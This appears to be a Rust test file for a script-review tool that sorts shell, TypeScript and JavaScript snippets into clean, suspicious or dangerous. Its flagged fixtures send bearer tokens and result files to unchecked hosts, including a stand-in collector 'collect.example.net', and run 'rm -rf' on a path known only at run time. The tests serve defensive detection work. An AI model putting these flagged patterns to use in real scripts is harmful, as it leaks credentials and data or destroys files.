//! Rows of session 55's mixed precision rules (issue 17), each with the twins that stay flagged.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use terraphim_script_review::{Language, Verdict};

use Verdict::{Clean, Dangerous, Suspicious};

/// A request with a token of no vendor to `https://$HOST/api/upload`, after `check` (one line
/// or more of shell).
fn upload_after(check: &str) -> String {
    format!(
        "#!/usr/bin/env bash\nset -euo pipefail\nHOST=\"${{RESULTS_HOST:?}}\"\n{check}\n\
         curl -fsS -H \"Authorization: Bearer ${{LAB_RESULTS_TOKEN}}\" \"https://$HOST/api/upload\" \
         -d @build/results.json\n"
    )
}

/// The shell form of `host.endswith(".internal")`: `case "$host" in *.internal|localhost) ;;
/// *) exit 1 ;; esac`, `[[ $host == *.internal ]] || exit 1`, and the item of a `case` that
/// names the zone: past the check (or inside the item) the variable is a host of that zone, so a
/// token of no vendor goes to the network's own server. Twins: a catch-all that only logs, a
/// check of another variable, a check after the send, a list holding a host nobody answers
/// for, a glob without the dot (`*internal`) or with more glob after the name.
#[test]
fn a_host_checked_against_a_zone_glob_is_a_host_of_that_zone() {
    let clean = [
        "case \"$HOST\" in\n  *.internal|localhost) ;;\n  *) echo \"refusing $HOST\" >&2; exit 1 ;;\nesac",
        "[[ $HOST == *.internal ]] || exit 1",
        "[[ \"$HOST\" == *.lab.internal || \"$HOST\" == localhost ]] || { echo no >&2; exit 2; }",
        "die() { echo \"$*\" >&2; exit 1; }\ncase \"$HOST\" in\n  *.home.arpa) ;;\n  *) die \"not a lab host: $HOST\" ;;\nesac",
    ];
    for check in clean {
        crate::verdict(Language::Shell, &upload_after(check), Clean);
    }
    let dangerous = [
        // The catch-all only logs.
        "case \"$HOST\" in\n  *.internal|localhost) ;;\n  *) echo \"refusing $HOST\" >&2 ;;\nesac",
        // Another variable is checked.
        "[[ $OTHER == *.internal ]] || exit 1",
        // A host nobody answers for is let through.
        "case \"$HOST\" in\n  *.internal|collect.example.net) ;;\n  *) exit 1 ;;\nesac",
        // A glob without the zone's dot, or with more glob after it.
        "[[ $HOST == *internal ]] || exit 1",
        "[[ $HOST == *.internal* ]] || exit 1",
        "case \"$HOST\" in\n  *.*) ;;\n  *) exit 1 ;;\nesac",
    ];
    for check in dangerous {
        crate::verdict(Language::Shell, &upload_after(check), Dangerous);
    }
    // The check after the send.
    let after = "#!/usr/bin/env bash\nset -euo pipefail\nHOST=\"${RESULTS_HOST:?}\"\n\
         curl -fsS -H \"Authorization: Bearer ${LAB_RESULTS_TOKEN}\" \"https://$HOST/api/upload\" \
         -d @build/results.json\n[[ $HOST == *.internal ]] || exit 1\n";
    crate::verdict(Language::Shell, after, Dangerous);
}

/// A loop over an inventory that skips every name outside the lab's zone (`*.lab.internal) ;;
/// *) continue ;;`): ssh reaches only the lab's hosts. Twin: the catch-all only logs.
#[test]
fn an_inventory_loop_that_skips_other_zones_reaches_only_the_lab() {
    let ok = "#!/usr/bin/env bash\nset -euo pipefail\nwhile read -r name type; do\n  \
              case \"$name\" in\n    *.lab.internal) ;;\n    *) echo \"skip $name\"; continue ;;\n  esac\n  \
              ssh -o BatchMode=yes \"admin@$name\" \"show ip route\"\ndone < inventory.txt\n";
    crate::verdict(Language::Shell, ok, Clean);
    let inside = "#!/usr/bin/env bash\nset -euo pipefail\nwhile read -r name type; do\n  \
                  case \"$name\" in\n    *.lab.internal) ssh -o BatchMode=yes \"admin@$name\" \"show ip route\" ;;\n    \
                  *) echo \"skip $name\" ;;\n  esac\ndone < inventory.txt\n";
    crate::verdict(Language::Shell, inside, Clean);
    let logs = "#!/usr/bin/env bash\nset -euo pipefail\nwhile read -r name type; do\n  \
                case \"$name\" in\n    *.lab.internal) echo ok ;;\n    *) echo \"skip $name\" ;;\n  esac\n  \
                ssh -o BatchMode=yes \"admin@$name\" \"show ip route\"\ndone < inventory.txt\n";
    crate::verdict(Language::Shell, logs, Suspicious);
}

/// `wget --version | head -n 1` (in a report's header, or as a Python `shell=True` constant):
/// the client prints its version and stops, contacting nothing. Twins: a URL beside the
/// option, a download.
#[test]
fn a_request_client_asked_for_its_version_contacts_nothing() {
    let clean = [
        (
            Language::Shell,
            "#!/usr/bin/env bash\necho \"tool: $(wget --version | head -n 1)\" > build/report.txt\n",
        ),
        (
            Language::Shell,
            "#!/usr/bin/env bash\ncurl -V\nxh --help >/dev/null\n",
        ),
        (
            Language::Python,
            "import subprocess\nout = subprocess.run(\"wget --version | head -n 1\", shell=True, capture_output=True, text=True)\nprint(out.stdout)\n",
        ),
    ];
    for (lang, code) in clean {
        crate::verdict(lang, code, Clean);
    }
    let flagged = [
        "#!/usr/bin/env bash\nwget --version \"$MIRROR/list.txt\"\n",
        "#!/usr/bin/env bash\nwget -q -O build/list.txt \"$MIRROR/list.txt\"\n",
    ];
    for code in flagged {
        crate::verdict(Language::Shell, code, Suspicious);
    }
}

/// A TypeScript class whose constructor stores its base URL in a field (a parameter property,
/// or `this.base = base;`) and then checks the parameter's host: the methods' requests with
/// `this.base` go to the hosts the check lets through. Twins: a check that only logs, a
/// parameter given another value before the check, a field stored from something else.
#[test]
fn a_field_stored_from_a_checked_constructor_parameter_is_checked_too() {
    let class = |ctor: &str| {
        format!(
            "class Admin {{\n{ctor}\n  async blocks(): Promise<unknown> {{\n    \
             const res = await fetch(`${{this.base}}/api/v1/admin/domain_blocks`, {{ headers: {{ Authorization: `Bearer ${{this.token}}` }} }});\n    \
             return res.json();\n  }}\n}}\n\
             const admin = new Admin(process.argv[2], process.env.SOCIAL_ADMIN_TOKEN ?? '');\n\
             admin.blocks().then((b) => console.log(JSON.stringify(b).length));\n"
        )
    };
    let ok = [
        "  constructor(private readonly base: string, private readonly token: string) {\n    \
         const host = new URL(base).hostname;\n    \
         if (!host.endsWith('.internal') && host !== 'localhost') throw new Error(`${host} is not ours`);\n  }",
        "  private base: string;\n  private token: string;\n  constructor(base: string, token: string) {\n    \
         this.base = base;\n    this.token = token;\n    \
         if (!new URL(base).hostname.endsWith('.internal')) throw new Error('not ours');\n  }",
    ];
    for ctor in ok {
        crate::verdict(Language::TypeScript, &class(ctor), Clean);
    }
    let flagged = [
        // The check only logs.
        "  constructor(private readonly base: string, private readonly token: string) {\n    \
         const host = new URL(base).hostname;\n    \
         if (!host.endsWith('.internal')) console.warn(`${host} is not ours`);\n  }",
        // The parameter is given another value before the check: the field keeps the first.
        "  constructor(private readonly base: string, private readonly token: string) {\n    \
         const given = base;\n    base = 'https://localhost';\n    \
         if (!new URL(base).hostname.endsWith('.internal')) throw new Error('not ours');\n    void given;\n  }",
        // The field holds another value than the parameter checked.
        "  private base: string;\n  private token: string;\n  constructor(base: string, token: string, mirror: string) {\n    \
         this.base = mirror;\n    this.token = token;\n    \
         if (!new URL(base).hostname.endsWith('.internal')) throw new Error('not ours');\n  }",
    ];
    for ctor in flagged {
        crate::verdict(Language::TypeScript, &class(ctor), Dangerous);
    }
}

/// `new URL(`/api/v1${p}`, base)` in an async generator, `base` the project's setting or its
/// default and checked to be the vendor's: the path against each URL `base` may be, so the
/// request goes to the checked host. Twins: a default of a host nobody answers for, no check.
#[test]
fn a_path_against_a_base_of_several_urls_is_at_each_of_them() {
    let script = |default: &str, check: &str| {
        format!(
            "import {{ readFileSync }} from 'node:fs';\nconst out = {{}};\n\
             for (const line of readFileSync('.env', 'utf8').split('\\n')) {{\n  \
             const m = /^([A-Z_]+)=(.*)$/.exec(line.trim());\n  if (m) out[m[1]] = m[2];\n}}\n\
             const env = {{ ...out, ...process.env }};\n\
             const base = new URL(env.CANVAS_URL || '{default}');\n{check}\n\
             const auth = {{ Authorization: `Bearer ${{env.CANVAS_TOKEN}}` }};\n\
             async function* paginate(p) {{\n  const url = new URL(`/api/v1${{p}}`, base);\n  \
             const res = await fetch(url.href, {{ headers: auth }});\n  yield* await res.json();\n}}\n\
             for await (const c of paginate('/courses')) console.log(c.id);\n"
        )
    };
    let check = "if (!base.hostname.endsWith('.instructure.com')) process.exit(1);";
    crate::verdict(
        Language::JavaScript,
        &script("https://invalid.instructure.com", check),
        Clean,
    );
    crate::verdict(
        Language::JavaScript,
        &script("https://collect.example.net", check),
        Dangerous,
    );
    crate::verdict(
        Language::JavaScript,
        &script("https://collect.example.net", ""),
        Dangerous,
    );
}

/// A glob of a file's extension (`*.bak`, `*.tar.gz`) is no host's zone: the variable keeps
/// what it held, so a delete of it stays a delete of a path known only at run time.
#[test]
fn an_extension_glob_is_no_zone() {
    let flagged = [
        "#!/usr/bin/env bash\nset -euo pipefail\nt=\"$1\"\ncase \"$t\" in\n  *.bak) rm -rf -- \"$t\" ;;\n  *) echo skip ;;\nesac\n",
        "#!/usr/bin/env bash\nset -euo pipefail\nt=\"$1\"\ncase \"$t\" in\n  *.tar.gz) ;;\n  *) exit 1 ;;\nesac\nrm -rf -- \"$t\"\n",
    ];
    for code in flagged {
        crate::verdict(Language::Shell, code, Suspicious);
    }
}
